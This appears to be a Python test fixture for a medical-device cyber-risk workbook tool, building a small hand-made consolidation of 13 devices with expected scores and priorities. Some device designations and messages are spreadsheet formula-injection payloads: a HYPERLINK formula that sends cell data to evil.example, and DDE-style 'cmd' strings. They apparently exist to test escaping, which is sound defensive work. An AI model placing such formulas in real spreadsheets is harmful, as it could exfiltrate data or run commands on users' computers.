"""A small consolidation built by hand (13 devices in 3 departments, hostile texts, one superseded
return) for the consolidated workbook's tests: every figure is computed from the method here."""

from __future__ import annotations

import pandas as pd

from medrisk_xl.consolidate.tables import (
    CRITERIA,
    FILE_COLUMNS,
    FOLLOW_UP_COLUMNS,
    FOLLOW_UP_DEVICE_COLUMNS,
    ITEMS,
    PROBLEM_COLUMNS,
    REGISTER_COLUMNS,
    Consolidation,
)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


DEPARTMENTS = ("Cardiologie", "Réanimation", "Urgences")


DEVICES = {
    "D01": ("Cardiologie", "Nord", [4] * 9, [1] * 6 + ["?"] + [0] * 3, True),  # 36, 7: risk 3
    "D02": ("Réanimation", "Nord", [3] * 9, [1, 1, 1, 0, 0, 0, 0, 0, 0, 0], True),  # 27, 3: risk 3
    "D03": ("Urgences", "Sud", [2] * 9, [1] * 6 + [0] * 4, True),  # 18, 6: risk 3
    "D04": ("Cardiologie", "Nord", [2] * 9, [1, "?", 1, 0, 0, 0, 0, 0, 0, 0], True),  # 18, 3: risk 2
    "D05": ("Réanimation", "Nord", [1] * 9, [1] * 7 + [0] * 3, True),  # 9, 7: risk 2
    "D06": ("Urgences", "Sud", [2] * 9, [0] * 10, True),  # 18, 0: risk 1
    "D07": ("Cardiologie", None, [1] * 9, [0] * 10, True),  # 9, 0: risk 1
    "D08": ("Réanimation", "Nord", [1] * 9, [1, 0, 0, 0, 0, 0, 0, 0, 0, 0], True),  # risk 1
    "D09": ("Urgences", "Sud", [1] * 9, [1, 1, 0, 0, 0, 0, 0, 0, 0, 0], True),  # risk 1
    "D10": ("Cardiologie", "Nord", [1] * 8 + [None], [0] * 10, True),  # incomplete: unscored
    "D11": ("Réanimation", "Nord", [4] * 9, [1] * 10, False),  # invalid workbook: not included
    "D12": ("Urgences", "Sud", [None] * 9, [None] * 10, True),  # not started
    "D13": ("Urgences", "Sud", [3] * 9, [0, 0, 0, 1, 0, 0, 0, 0, 0, 0], True),  # 27, 1: risk 2
}


OLD = ("2026-10-01T10:00", 5, 0, 0, 0, 0, 5, 0)  # a superseded return: saved, then its counts


DESIGNATIONS = {"D01": HOSTILE, "D05": "+cmd|' /C calc'!A0", "D07": "@SUM(1+1)*cmd"}


def _record(pack, language, device: str) -> dict:
    """One register row of ``device``, computed from its answers with the method."""
    m = pack.method
    department, site, crit, vuln, included = DEVICES[device]
    answers = language.labels["vulnerability"]["answers"]
    rec: dict = dict.fromkeys(REGISTER_COLUMNS)
    rec.update(
        device_id=device,
        department=department,
        site=site,
        designation=DESIGNATIONS.get(device, f"Moniteur {device}"),
        manufacturer="Acme",
        model="M-1",
        source_file=f"returns/{department}.xlsx",
        added=False,
        included=included,
        sheet="Saisie",
        row=5 + int(device[1:]),
    )
    rec.update(zip(CRITERIA, crit))
    points = [None if v is None else (1 if v == "?" else v) for v in vuln]
    rec.update(zip(ITEMS, points))
    for code, v in zip(ITEMS, vuln):
        if v is not None:
            rec[f"{code}_answer"] = answers["UNKNOWN" if v == "?" else ("NO" if v else "YES")]
    rec["unknown_items"] = ", ".join(c for c, v in zip(ITEMS, vuln) if v == "?") or None
    rec["non_compliant_items"] = ", ".join(c for c, p in zip(ITEMS, points) if p) or None
    if None not in crit and None not in vuln:
        cs, vs = sum(crit), sum(points)
        cl, vl = m.criticality_level(cs), m.vulnerability_level(vs)
        rec.update(
            criticality_score=cs,
            criticality_level=cl,
            vulnerability_score=vs,
            vulnerability_level=vl,
            risk_level=m.risk_level(vl, cl),
            status="to_confirm" if rec["unknown_items"] else "complete",
        )
    else:
        rec["status"] = "not_started" if all(c is None for c in crit) else "incomplete"
    return rec


# The register's order and priorities, worked out by hand from the comments of DEVICES (included
# first, then risk, criticality score and vulnerability score from high to low, then department
# and id): risk 3 by criticality (D01 36, D02 27, D03 18), risk 2 (D13 27, D04 18, D05 9), risk 1
# (D06 18, then criticality 9 by vulnerability: D09 2, D08 1, D07 0); then the unscored rows (D10
# Cardiologie before D12 Urgences) and the excluded D11, without a priority.
PRIORITIES = {
    "D01": 1,
    "D02": 2,
    "D03": 3,
    "D13": 4,
    "D04": 5,
    "D05": 6,
    "D06": 7,
    "D09": 8,
    "D08": 9,
    "D07": 10,
    "D10": None,
    "D12": None,
    "D11": None,
}


def make_register(pack, language) -> pd.DataFrame:
    """The register as consolidate builds it: typed columns, in the order of PRIORITIES (stated
    here, never computed by the sort under test)."""
    reg = pd.DataFrame([_record(pack, language, d) for d in PRIORITIES], columns=REGISTER_COLUMNS)
    ints = [*CRITERIA, *ITEMS, "criticality_score", "criticality_level", "vulnerability_score"]
    for column in [*ints, "vulnerability_level", "risk_level", "row"]:
        reg[column] = pd.array(reg[column], dtype="Int64")
    reg["added"] = reg["added"].astype(bool)
    reg["included"] = reg["included"].astype(bool)
    reg["priority"] = pd.array(list(PRIORITIES.values()), dtype="Int64")
    return reg


def make_consolidation(pack, lang: str = "fr", follow_up: bool = True) -> Consolidation:
    language = pack.language(lang)
    register = make_register(pack, language)
    problems = pd.DataFrame(
        [
            (
                "returns/Réanimation.xlsx",
                "invalid-answer",
                "error",
                "Saisie",
                "K16",
                16,
                "D11",
                "V1 holds 'X'",
            ),
            ("returns/Urgences.xlsx", "not-started", "warning", "Saisie", None, 17, "D12", "no answer yet"),
            ("returns/Urgences.xlsx", "added-device", "info", "Saisie", None, 30, "D13", "added"),
            ("returns/Cardiologie.xlsx", "to-confirm", "warning", "Saisie", None, 6, "D01", HOSTILE),
        ],
        columns=PROBLEM_COLUMNS,
    )
    saved = ("2026-11-01T10:00", "2026-11-02T10:00", "2026-11-03T10:00")
    files = pd.DataFrame(
        [
            (
                "returns/Cardiologie.xlsx",
                "c1",
                "Cardiologie",
                "valid",
                True,
                None,
                saved[0],
                4,
                2,
                1,
                1,
                0,
                0,
                0,
            ),
            (
                "returns/Réanimation.xlsx",
                "c1",
                "Réanimation",
                "invalid",
                True,
                None,
                saved[1],
                4,
                3,
                0,
                0,
                1,
                0,
                0,
            ),
            ("returns/Urgences.xlsx", "c1", "Urgences", "valid", True, None, saved[2], 5, 3, 0, 1, 0, 1, 1),
            ("old/Urgences.xlsx", "c1", "Urgences", "valid", False, "returns/Urgences.xlsx", *OLD),
        ],
        columns=FILE_COLUMNS,
    )
    follow = pd.DataFrame(
        [
            ("Cardiologie", True, True, True, 4, 4, 0.75),
            ("Réanimation", True, True, False, 4, 4, 0.75),
            ("Urgences", True, True, True, 5, 5, 0.6),
            ("Pédiatrie", True, False, False, 3, 0, 0.0),
        ],
        columns=FOLLOW_UP_COLUMNS,
    )
    devices = pd.DataFrame(
        [
            ("P01", "Pédiatrie", None, "not_returned", None, None),
            ("D05", "Urgences", None, "not_in_return", None, "returns/Urgences.xlsx"),
            ("U-NEW", "Urgences", HOSTILE, "added", None, "returns/Urgences.xlsx"),
            ("R02", "Réanimation", None, "not_mapped", "invalid-answer", "returns/Réanimation.xlsx"),
        ],
        columns=FOLLOW_UP_DEVICE_COLUMNS,
    )
    return Consolidation(
        register=register,
        problems=problems,
        files=files,
        follow_up=follow if follow_up else None,
        follow_up_devices=devices if follow_up else None,
        campaign="cyber-2026",
        language=lang,
        accounting={"files": 4, "files_used": 3, "rows_in": 18, "devices_in_register": len(register)},
    )
